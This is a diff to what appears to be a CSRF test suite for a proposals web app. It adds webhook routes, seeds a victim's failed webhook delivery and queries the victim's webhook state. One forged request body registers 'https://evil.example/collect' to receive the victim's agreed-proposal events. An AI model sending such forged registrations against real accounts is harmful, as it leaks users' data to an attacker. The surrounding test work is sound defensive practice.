@@ -31,6 +31,8 @@ export interface VictimIds {
   beaconToken: string
   /** Someone else's proposal the victim, as a prospect, may agree to (issue 20). */
   othersProposalId: string
+  /** The victim's webhook endpoint and a delivery of it that failed (issue 39), for the webhook routes only. */
+  webhook?: { endpointId: string; deliveryId: string }
 }
 
 export interface RouteCall {
@@ -143,6 +145,10 @@ export function routeCalls(login: { username: string }): Record<string, RouteCal
     'POST /api/calculator-templates/:id/use': { fields: () => ({}) },
     // Issue 39: the victim's e-mails about their proposals, stopped.
     'PUT /api/notifications/settings': { fields: () => ({ agreed: false }) },
+    // Issue 39: the victim's proposals' moves sent to the attacker's server, or the victim's endpoint removed or poked.
+    'POST /api/notifications/webhooks': { fields: () => ({ url: 'https://evil.example/collect', events: ['proposal.agreed'] }) },
+    'DELETE /api/notifications/webhooks/:id': { fields: () => ({}) },
+    'POST /api/notifications/webhooks/:id/deliveries/:deliveryId/resend': { fields: () => ({}) },
   }
 }
 
@@ -157,6 +163,8 @@ export function pathWithIds(routePath: string, ids: VictimIds): string {
     return routePath.replace(':id', ids.proposalId).replace(':number', '1').replace(':blockId', 'executiveSummary')
   if (routePath.startsWith('/api/billing/test-checkout/')) return routePath.replace(':id', ids.checkoutId)
   if (routePath.startsWith('/api/calculator-templates/')) return routePath.replace(':id', ids.templateId)
+  if (routePath.startsWith('/api/notifications/webhooks/'))
+    return routePath.replace(':id', ids.webhook?.endpointId ?? '').replace(':deliveryId', ids.webhook?.deliveryId ?? '')
   return routePath
 }
 
@@ -187,6 +195,31 @@ export function encode(call: RouteCall, encoding: Encoding, ids: VictimIds): { b
     case 'multipart':
       return multipartBody([...Object.entries(fields).map(([name, value]) => ({ name, value: asText(value) })), ...(file ? [file] : [])])
   }
+}
+
+/**
+ * The victim's webhook endpoint (on loopback: the sender never connects) and a delivery of it that
+ * already failed, written as the sender leaves one, so only a resend changes it.
+ */
+export async function victimWebhook(
+  stack: TestStack,
+  asVictim: (path: string, json: unknown) => Promise<{ status: number; text: string }>,
+): Promise<{ endpointId: string; deliveryId: string }> {
+  const created = await asVictim('/api/notifications/webhooks', {
+    url: 'https://127.0.0.1/victim-hook',
+    events: ['proposal.pdf_downloaded'],
+  })
+  expect(created.status, created.text).toBe(201)
+  const endpointId = (JSON.parse(created.text) as { id: string }).id
+  const deliveryId = `wd_csrf-${randomBytes(8).toString('hex')}`
+  await stack.databases.notification.execute(
+    `INSERT INTO ${table(stack, 'notification', 'webhook_delivery')} (id, endpoint_id, event_id, event_type, data, occurred_at, status, attempts)
+     VALUES ($1, $2, $3, 'proposal.pdf_downloaded', '{}', now(), 'failed', 1)`,
+    deliveryId,
+    endpointId,
+    `evt_${deliveryId}`,
+  )
+  return { endpointId, deliveryId }
 }
 
 /** What any state-changing route could alter for the victim (and, for register, anyone). */
@@ -240,6 +273,16 @@ export async function victimState(stack: TestStack, victim: { id: number }): Pro
     viewEvents: await count(
       'proposal',
       `SELECT count(*) AS n FROM ${table(stack, 'proposal', 'outbox_event')} WHERE subject = 'proposal.proposal.viewed'`,
+    ),
+    // The victim's webhook endpoints, and whether a failed delivery was sent again.
+    webhooks: await stack.databases.notification.query(
+      `SELECT id, url, events, enabled FROM ${table(stack, 'notification', 'webhook_endpoint')} WHERE user_id = $1 ORDER BY id`,
+      victim.id,
+    ),
+    webhookDeliveries: await stack.databases.notification.query(
+      `SELECT d.id, d.status FROM ${table(stack, 'notification', 'webhook_delivery')} d
+        JOIN ${table(stack, 'notification', 'webhook_endpoint')} e ON e.id = d.endpoint_id WHERE e.user_id = $1 ORDER BY d.id`,
+      victim.id,
     ),
     // Which e-mails the victim gets (no row until their first change: every kind on).
     notificationSettings: await stack.databases.notification.query(
